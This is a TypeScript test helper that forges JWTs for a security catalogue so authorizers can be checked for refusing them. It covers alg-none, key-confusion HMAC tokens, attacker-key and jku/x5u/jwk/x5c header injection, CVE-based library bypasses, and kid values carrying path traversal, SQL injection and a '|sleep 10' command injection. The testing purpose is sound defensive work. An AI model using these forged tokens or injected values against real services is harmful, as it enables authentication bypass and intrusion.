/**
 * The tokens of the attack catalogue's rows (security catalogue, issue 15), built on node:crypto
 * exactly as each row says, from a live ID token T (header H, payload P, signature S), the user's
 * access token, the pool's public JWKS and an attacker key. Pool-key rows also need the pool's own
 * private key, which only the local emulator has. Nothing here validates anything: each builder makes
 * exactly the bytes its row describes, so a test can hand them to any verifier.
 *
 * This is a test helper for library-authorizers.test.ts, not the catalogue: the row ids are the
 * catalogue's (stable, used verbatim), the catalogue itself stays the one place a row is defined.
 * `proposedRows` are attacks the catalogue does not have yet (findings of the library matrix).
 */
import {
  createHmac,
  createPublicKey,
  generateKeyPairSync,
  type JsonWebKey,
  type KeyObject,
  sign,
  X509Certificate,
} from 'node:crypto';

export type JsonObject = Record<string, unknown>;

/** Where a row's token can be made (the catalogue's "built where" column). */
export type BuiltWhere = 'sandbox' | 'sign-in' | 'pool key';

export interface RowToken {
  readonly id: string;
  readonly builtWhere: BuiltWhere;
  /** The token; the row is sent as this raw header value and as `Bearer <token>`. */
  readonly token: string;
  /** The catalogue expects a 401 "expired" for this row (only `expired`), else a plain refusal. */
  readonly expectsExpired: boolean;
}

/** The attacker's RSA key with what the catalogue's rows carry of it (jwk, jku, x5c, x5u). */
export interface AttackerKey {
  readonly kid: string;
  readonly privateKey: KeyObject;
  /** Public JWK with kid, alg and use, as an attacker JWKS publishes it. */
  readonly publicJwk: JsonWebKey;
  /** Self-signed X.509 certificate for the key, DER. */
  readonly certificateDer: Buffer;
  readonly certificatePem: string;
  readonly jwks: { readonly keys: readonly JsonWebKey[] };
}

export interface CatalogueInput {
  /** The live ID token T (the catalogue's rows here are those of an ID-token method). */
  readonly idToken: string;
  /** The same user's access token: the `access-token` row and `signature-transplanted`. */
  readonly accessToken: string;
  /** The pool's public JWKS as published. */
  readonly poolJwks: { readonly keys: readonly JsonWebKey[] };
  readonly attacker: AttackerKey;
  /** URL serving `attacker.jwks` (jku-injection): a loopback server the test runs. */
  readonly jkuUrl: string;
  /** URL serving `attacker.certificatePem` (x5u-injection): a loopback server the test runs. */
  readonly x5uUrl: string;
  /** The pool's private key: only the local emulator's is knowable. Omitted: no pool-key rows. */
  readonly poolPrivateKey?: KeyObject;
  readonly nowSeconds?: number;
}

export const ATTACKER_KID = 'contract-attacker-1';

// TODO(issue 15): switch to the committed attacker key, security/attacker-key.json (kid
// "contract-attacker-1", certificate and JWKS included), once it lands on main; until then each test
// run generates one. Nothing depends on the key being fixed: every row only needs "not the pool's".
export function generateAttackerKey(): AttackerKey {
  const { privateKey, publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const publicJwk: JsonWebKey = {
    ...publicKey.export({ format: 'jwk' }),
    kid: ATTACKER_KID,
    alg: 'RS256',
    use: 'sig',
  };
  const certificateDer = selfSignedCertificate(privateKey, publicKey, ATTACKER_KID);
  const certificatePem = new X509Certificate(certificateDer).toString();
  return {
    kid: ATTACKER_KID,
    privateKey,
    publicJwk,
    certificateDer,
    certificatePem,
    jwks: { keys: [publicJwk] },
  };
}

// ---------------------------------------------------------------------------------------------------
// The smallest DER that X.509 parsers accept: node:crypto parses certificates but cannot make one.

function derLength(length: number): Buffer {
  if (length < 0x80) return Buffer.from([length]);
  const bytes: number[] = [];
  for (let rest = length; rest > 0; rest >>= 8) bytes.unshift(rest & 0xff);
  return Buffer.from([0x80 | bytes.length, ...bytes]);
}

function der(tag: number, ...content: Buffer[]): Buffer {
  const body = Buffer.concat(content);
  return Buffer.concat([Buffer.from([tag]), derLength(body.length), body]);
}

function derOid(oid: string): Buffer {
  const [first = 0, second = 0, ...rest] = oid.split('.').map(Number);
  const bytes = [first * 40 + second];
  for (const arc of rest) {
    const groups: number[] = [];
    for (let value = arc; ; value = Math.floor(value / 128)) {
      groups.unshift((value % 128) | (groups.length > 0 ? 0x80 : 0));
      if (value < 128) break;
    }
    bytes.push(...groups);
  }
  return der(0x06, Buffer.from(bytes));
}

const SEQUENCE = 0x30;
const SHA256_WITH_RSA = der(SEQUENCE, derOid('1.2.840.113549.1.1.11'), Buffer.from([0x05, 0x00]));

function derName(commonName: string): Buffer {
  return der(SEQUENCE, der(0x31, der(SEQUENCE, derOid('2.5.4.3'), der(0x0c, Buffer.from(commonName)))));
}

function selfSignedCertificate(privateKey: KeyObject, publicKey: KeyObject, commonName: string): Buffer {
  const tbs = der(
    SEQUENCE,
    der(0xa0, der(0x02, Buffer.from([0x02]))), // [0] version v3
    der(0x02, Buffer.from([0x01])), // serial number 1
    SHA256_WITH_RSA,
    derName(commonName),
    // UTCTime runs to 2049; long enough that no run meets an expired attacker certificate.
    der(SEQUENCE, der(0x17, Buffer.from('250101000000Z')), der(0x17, Buffer.from('491231235959Z'))),
    derName(commonName),
    publicKey.export({ type: 'spki', format: 'der' }),
  );
  const signature = sign('sha256', tbs, privateKey);
  return der(SEQUENCE, tbs, SHA256_WITH_RSA, der(0x03, Buffer.from([0x00]), signature));
}

// ---------------------------------------------------------------------------------------------------

const b64u = (bytes: Buffer | string): string => Buffer.from(bytes).toString('base64url');
const b64uJson = (value: unknown): string => b64u(JSON.stringify(value));

interface Parts {
  readonly h: string;
  readonly p: string;
  readonly s: string;
  readonly header: JsonObject;
  readonly payload: JsonObject;
}

function parts(token: string): Parts {
  const [h, p, s, ...extra] = token.split('.');
  if (h === undefined || p === undefined || s === undefined || extra.length > 0) {
    throw new Error('the live token is not a three-part JWT; sign in again for a fresh one');
  }
  const json = (part: string): JsonObject => {
    const value: unknown = JSON.parse(Buffer.from(part, 'base64url').toString('utf8'));
    if (typeof value !== 'object' || value === null || Array.isArray(value)) {
      throw new Error('the live token has a part that is not a JSON object');
    }
    return value as JsonObject;
  };
  return { h, p, s, header: json(h), payload: json(p) };
}

function without(object: JsonObject, key: string): JsonObject {
  const { [key]: _dropped, ...rest } = object;
  return rest;
}

/** `header.payload.signature` where the signature is RSA (PKCS#1 v1.5 or PSS) with `hash`. */
function rsaSigned(
  header: JsonObject,
  payload: JsonObject,
  key: KeyObject,
  hash = 'sha256',
  pss = false,
): string {
  const input = `${b64uJson(header)}.${b64uJson(payload)}`;
  const signature = pss
    ? sign(hash, Buffer.from(input), { key, padding: 6 /* RSA_PKCS1_PSS_PADDING */, saltLength: 32 })
    : sign(hash, Buffer.from(input), key);
  return `${input}.${b64u(signature)}`;
}

function hmacSigned(
  header: JsonObject,
  payload: JsonObject,
  secret: string | Buffer,
  hash = 'sha256',
): string {
  const input = `${b64uJson(header)}.${b64uJson(payload)}`;
  return `${input}.${createHmac(hash, secret).update(input).digest('base64url')}`;
}

/** The pool's first key, as the PEM forms a naive verifier loads (the catalogue's HS rows). */
export function poolKeyForms(jwks: { readonly keys: readonly JsonWebKey[] }): {
  readonly jwk: JsonWebKey;
  readonly spkiPem: string;
  readonly pkcs1Pem: string;
} {
  const [jwk] = jwks.keys;
  if (jwk === undefined) throw new Error('the pool JWKS has no key');
  const key = createPublicKey({ key: jwk, format: 'jwk' });
  return {
    jwk,
    spkiPem: key.export({ type: 'spki', format: 'pem' }).toString(),
    pkcs1Pem: key.export({ type: 'pkcs1', format: 'pem' }).toString(),
  };
}

/** Every row of the catalogue this helper can build, in the catalogue's order. */
export function catalogueTokens(input: CatalogueInput): RowToken[] {
  const { h, p, s, header: H, payload: P } = parts(input.idToken);
  const access = parts(input.accessToken);
  const attacker = input.attacker;
  const pool = poolKeyForms(input.poolJwks);
  const poolKid = H.kid;
  const rows: RowToken[] = [];
  const row = (id: string, token: string, builtWhere: BuiltWhere = 'sandbox') =>
    rows.push({ id, token, builtWhere, expectsExpired: id === 'expired' });
  const withHeaderPart = (headerPart: string) => `${headerPart}.${p}.${s}`;
  const withPayloadPart = (payloadPart: string) => `${h}.${payloadPart}.${s}`;
  const attackerSigned = (header: JsonObject) => rsaSigned(header, P, attacker.privateKey);
  const emptyKeyHs256 = (kid: string) => hmacSigned({ ...H, alg: 'HS256', kid }, P, '');

  row('empty-header', '');
  row('garbage', 'this-is-not-a-jwt');
  row('two-parts', `${h}.${p}`);
  row(
    'five-parts-jwe',
    // dir: no encrypted key; a 96-bit IV, some ciphertext and a 128-bit tag, none of them meaningful.
    [
      b64uJson({ alg: 'dir', enc: 'A256GCM', kid: poolKid }),
      '',
      b64u(Buffer.alloc(12, 1)),
      p,
      b64u(Buffer.alloc(16, 2)),
    ].join('.'),
  );
  row('signature-removed', `${h}.${p}.`);
  row('signature-truncated', `${h}.${p}.${s.slice(0, -4)}`);
  row('signature-transplanted', `${h}.${p}.${access.s}`);
  row('signature-standard-base64', `${h}.${p}.${Buffer.from(s, 'base64url').toString('base64')}`);
  row(
    'payload-tampered',
    `${h}.${b64uJson({ ...P, 'cognito:username': `${String(P['cognito:username'])}-admin` })}.${s}`,
  );
  row('header-not-base64url', withHeaderPart('%%%'));
  row('header-not-json', withHeaderPart(b64u('not json')));
  row('header-json-null', withHeaderPart(b64u('null')));
  row('header-json-array', withHeaderPart(b64u('[]')));
  row('header-json-number', withHeaderPart(b64u('1')));
  row('header-invalid-utf8', withHeaderPart(b64u(Buffer.from([0xff, 0xfe, 0xfd]))));
  row(
    'header-duplicate-alg',
    withHeaderPart(b64u(`{"alg":"none",${JSON.stringify(without(H, 'alg')).slice(1, -1)},"alg":"RS256"}`)),
  );
  row('payload-not-base64url', withPayloadPart('%%%'));
  row('payload-not-json', withPayloadPart(b64u('not json')));
  row('payload-json-null', withPayloadPart(b64u('null')));
  row('payload-json-array', withPayloadPart(b64u('[]')));
  row('payload-json-number', withPayloadPart(b64u('1')));
  row('payload-invalid-utf8', withPayloadPart(b64u(Buffer.from([0xff, 0xfe, 0xfd]))));
  row(
    'payload-duplicate-claim',
    withPayloadPart(b64u(`${JSON.stringify(P).slice(0, -1)},"cognito:username":"admin"}`)),
  );
  row('header-values-null', withHeaderPart(b64uJson({ ...H, alg: null, kid: null })));
  row('header-values-wrong-type', withHeaderPart(b64uJson({ ...H, alg: 0, kid: true })));
  row(
    'payload-values-null',
    withPayloadPart(b64uJson(Object.fromEntries(Object.keys(P).map((k) => [k, null])))),
  );
  row(
    'payload-values-wrong-type',
    withPayloadPart(b64uJson({ ...P, exp: 'jwt_tool', iss: 0, token_use: false })),
  );
  for (const [id, alg] of [
    ['alg-none', 'none'],
    ['alg-none-capitalised', 'None'],
    ['alg-none-uppercase', 'NONE'],
    ['alg-none-mixed-case', 'nOnE'],
  ] as const) {
    row(id, `${b64uJson({ ...H, alg })}.${p}.`);
  }
  row('alg-none-signature-kept', `${b64uJson({ ...H, alg: 'none' })}.${p}.${s}`);
  row('alg-missing', withHeaderPart(b64uJson(without(H, 'alg'))));
  row('alg-rs384-attacker-key', rsaSigned({ ...H, alg: 'RS384' }, P, attacker.privateKey, 'sha384'));
  row('alg-rs512-attacker-key', rsaSigned({ ...H, alg: 'RS512' }, P, attacker.privateKey, 'sha512'));
  row('alg-ps256-attacker-key', rsaSigned({ ...H, alg: 'PS256' }, P, attacker.privateKey, 'sha256', true));
  row('alg-es256-zero-signature', `${b64uJson({ ...H, alg: 'ES256' })}.${p}.${b64u(Buffer.alloc(64))}`);
  row('alg-hs384-public-key', hmacSigned({ ...H, alg: 'HS384' }, P, pool.spkiPem, 'sha384'));
  row('alg-hs512-public-key', hmacSigned({ ...H, alg: 'HS512' }, P, pool.spkiPem, 'sha512'));
  row('hs256-empty-secret', hmacSigned({ ...H, alg: 'HS256' }, P, ''));
  row('hs256-common-secret', hmacSigned({ ...H, alg: 'HS256' }, P, 'secret'));
  row('hs256-jwt-io-secret', hmacSigned({ ...H, alg: 'HS256' }, P, 'your-256-bit-secret'));
  row('hs256-spki-pem', hmacSigned({ ...H, alg: 'HS256' }, P, pool.spkiPem));
  row('hs256-spki-pem-no-newline', hmacSigned({ ...H, alg: 'HS256' }, P, pool.spkiPem.trimEnd()));
  row('hs256-pkcs1-pem', hmacSigned({ ...H, alg: 'HS256' }, P, pool.pkcs1Pem));
  row('hs256-pkcs1-pem-no-newline', hmacSigned({ ...H, alg: 'HS256' }, P, pool.pkcs1Pem.trimEnd()));
  row('hs256-jwk-json', hmacSigned({ ...H, alg: 'HS256' }, P, JSON.stringify(pool.jwk)));
  row('attacker-key-pool-kid', attackerSigned(H));
  row('attacker-key-unknown-kid', attackerSigned({ ...H, kid: attacker.kid }));
  row('kid-missing', attackerSigned(without(H, 'kid')));
  row('kid-empty', emptyKeyHs256(''));
  row('kid-path-traversal', emptyKeyHs256('../../../../../../dev/null'));
  row('kid-dev-null', emptyKeyHs256('/dev/null'));
  row('kid-sql-injection', hmacSigned({ ...H, alg: 'HS256', kid: "x' UNION SELECT '1';--" }, P, '1'));
  row('kid-command-injection', emptyKeyHs256('|sleep 10'));
  row('jwk-injection', attackerSigned({ ...H, kid: attacker.kid, jwk: attacker.publicJwk }));
  row('jku-injection', attackerSigned({ ...H, kid: attacker.kid, jku: input.jkuUrl }));
  row(
    'x5c-injection',
    attackerSigned({ ...H, kid: attacker.kid, x5c: [attacker.certificateDer.toString('base64')] }),
  );
  row('x5u-injection', attackerSigned({ ...H, kid: attacker.kid, x5u: input.x5uUrl }));
  row('oversized-header', `${input.idToken}${'A'.repeat(32 * 1024)}`);
  row('access-token', input.accessToken, 'sign-in');

  const poolKey = input.poolPrivateKey;
  if (poolKey !== undefined) {
    const now = input.nowSeconds ?? Math.floor(Date.now() / 1000);
    const iss = String(P.iss);
    const poolSigned = (payload: JsonObject) => rsaSigned(H, payload, poolKey);
    const poolRow = (id: string, payload: JsonObject) => row(id, poolSigned(payload), 'pool key');
    poolRow('expired', { ...P, iat: now - 7200, auth_time: now - 7200, exp: now - 3600 });
    poolRow('issuer-other-pool', { ...P, iss: iss.replace(/[^/]+$/, 'local_0therPoo1') });
    poolRow('issuer-suffix', { ...P, iss: `${iss}x` });
    poolRow('issuer-prefix', { ...P, iss: `https://attacker.example/${iss}` });
    poolRow('issuer-case', { ...P, iss: iss.replace(/[^/]+$/, (id) => swapCase(id)) });
    poolRow('token-use-missing', without(P, 'token_use'));
    poolRow('token-use-case', { ...P, token_use: 'ID' });
    poolRow('exp-missing', without(P, 'exp'));
    poolRow('exp-string', { ...P, exp: String(P.exp) });
    poolRow('iss-array', { ...P, iss: [iss] });
  }
  return rows;
}

function swapCase(text: string): string {
  return [...text].map((c) => (c === c.toUpperCase() ? c.toLowerCase() : c.toUpperCase())).join('');
}

/**
 * Attacks the catalogue lacks, each of which a real library version in library-authorizers.ts falls
 * to while falling to no catalogue row (or only to it): recommended rows, same notation.
 */
export function proposedRows(input: CatalogueInput): RowToken[] {
  const { h, p, s, header: H, payload: P } = parts(input.idToken);
  const rows: RowToken[] = [
    // CVE-2022-25898's own example: characters outside base64url inside S. Node's base64 decoder skips
    // them, so every library that decodes S with Buffer.from(..., 'base64') checks the genuine bytes.
    { id: 'signature-junk-characters', token: `${h}.${p}.${s.slice(0, 100)}!@$%${s.slice(100)}` },
    // CVE-2022-23540: a kid the JWKS lacks leaves a key lookup with no key, and jsonwebtoken <= 8.5.1
    // then verifies with `none`. alg-none keeps the pool kid, so the key is found and none is refused.
    { id: 'alg-none-unknown-kid', token: `${b64uJson({ ...H, alg: 'none', kid: ATTACKER_KID })}.${p}.` },
    { id: 'alg-none-kid-missing', token: `${b64uJson(without({ ...H, alg: 'none' }, 'kid'))}.${p}.` },
  ].map((r) => ({ ...r, builtWhere: 'sandbox' as const, expectsExpired: false }));
  const poolKey = input.poolPrivateKey;
  if (poolKey !== undefined) {
    const iss = String(P.iss);
    rows.push(
      // CVE-2025-30144: fast-jwt < 5.0.6 accepts an iss array when any one element is allowed.
      {
        id: 'iss-array-attacker-first',
        token: rsaSigned(H, { ...P, iss: ['https://attacker.example', iss] }, poolKey),
        builtWhere: 'pool key',
        expectsExpired: false,
      },
      // CVE-2026-35042: fast-jwt <= 6.1.0 ignores crit; RFC 7515 §4.1.11 says such a JWS is invalid.
      {
        id: 'crit-unknown-extension',
        token: rsaSigned({ ...H, crit: ['x-contract'], 'x-contract': true }, P, poolKey),
        builtWhere: 'pool key',
        expectsExpired: false,
      },
    );
  }
  return rows;
}
